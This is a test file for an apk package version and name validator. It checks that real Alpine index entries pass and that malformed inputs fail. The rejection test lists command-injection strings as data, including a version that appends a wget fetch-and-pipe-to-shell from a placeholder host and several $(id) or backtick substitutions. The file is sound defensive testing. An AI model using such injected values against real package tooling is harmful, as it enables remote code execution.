import { fixtureText } from '../../../../test/support/package-indexes.js';
import { isApkPackageName, isApkVersion } from './apk-version.js';

describe('apk version and name grammar', () => {
  test('every version and name of the real index fixtures is accepted', () => {
    const text = ['v3.20-main-x86_64', 'v3.20-community-x86_64'].map((name) => fixtureText(`apk/${name}.APKINDEX`)).join('\n');
    const versions = [...text.matchAll(/^V:(.*)$/gm)].map((m) => m[1]!);
    const names = [...text.matchAll(/^P:(.*)$/gm)].map((m) => m[1]!);
    expect(versions.length).toBeGreaterThan(10);
    expect(versions.filter((v) => !isApkVersion(v))).toEqual([]);
    expect(names.filter((n) => !isApkPackageName(n))).toEqual([]);
  });

  test('the forms apk-tools knows pass: letters, suffixes with numbers, commit hashes, revisions', () => {
    for (const v of ['1', '1.2.3', '1.2.3a', '1.0_alpha', '1.0_rc2_p1', '13.2.1_git20240309-r0', '2.0~a1b2c3-r10', '20241121-r1']) expect([v, isApkVersion(v)]).toEqual([v, true]);
  });

  test('a shell command, whitespace, or a malformed version is refused', () => {
    for (const v of ['8.9.1-r0 && wget -qO- http://x/y | sh && true', '1.0\n', ' 1.0', '1.0-r', '1.0_beta-r0x', 'v1.0', '1..0', '1.0_foo', '1.0-r1$(id)', '', `1.${'0'.repeat(300)}`]) {
      expect([v, isApkVersion(v)]).toEqual([v, false]);
    }
    for (const n of ['curl;id', 'a b', '-rf', '', 'x`id`']) expect([n, isApkPackageName(n)]).toEqual([n, false]);
  });
});
